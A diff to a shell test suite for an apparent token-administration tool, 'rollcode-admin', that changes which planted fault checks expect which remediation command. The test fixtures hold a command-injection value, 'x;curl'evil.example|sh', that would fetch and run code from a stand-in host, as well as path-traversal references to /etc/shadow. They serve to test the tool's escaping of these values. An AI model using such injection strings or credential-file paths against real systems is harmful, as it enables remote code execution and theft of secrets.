@@ -346,7 +346,8 @@ user_cases() {
 	    "too much tolerance for 6 digits" tolerant
 	planted token-digits "$anew" "6 digits" \
 	    eval 'admin enroll ann --replace --phone >"$T/uri" 2>&1'
-	planted user-disabled run "a user without an enabled token" \
+	planted user-disabled "rollcode-admin enable ann" \
+	    "a user without an enabled token" \
 	    admin disable ann
 	planted user-guarded run "a guarded user" guess
 	ARGS=(bob)
@@ -954,8 +955,8 @@ lies() {
 	ln "$u/ann.db" "$u/twice"
 	chmod 644 "$u/ann.db" "$u/bob.db"
 	LD_PRELOAD=$LYING LIE="curl x x
-user-disabled x;curl'evil.example|sh x
-user-guarded --conf=/tmp/x x
+user-guarded x;curl'evil.example|sh x
+user-guarded --conf=/tmp/x y
 user-missing ann x
 store-place x /etc/shadow
 store-place x $u/../../../../../etc/shadow
@@ -971,7 +972,7 @@ user-file ann $T/elsewhere" timeout 60 rollcode-admin check --json >"$T/json" \
 	    if "evil.example" in f["what"] or "curl" in str(f):
 	        print(f["name"], f["command"])
 	PYTHON
-	)" "user-disabled rollcode-admin enable 'x;curl'\\''evil.example|sh'
+	)" "user-guarded rollcode-admin unlock 'x;curl'\\''evil.example|sh'
 user-guarded 
 user-missing 
 store-place 
